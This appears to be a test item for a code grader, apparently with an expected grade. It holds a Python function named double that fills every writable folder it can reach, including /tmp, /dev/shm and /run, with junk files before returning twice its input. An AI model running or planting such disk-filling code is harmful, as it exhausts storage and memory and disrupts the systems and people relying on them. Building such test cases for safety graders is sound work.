# Fills every folder it can write to.
# expects: graded 1 or graded 3
# %% double
import os
def double(x):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run"):
        for number in range(100_000):
            try:
                with open(os.path.join(folder, f"fill{number}"), "wb") as stream:
                    while stream.write(b"x" * 1_000_000):
                        pass
            except OSError:
                break
    return 2 * x
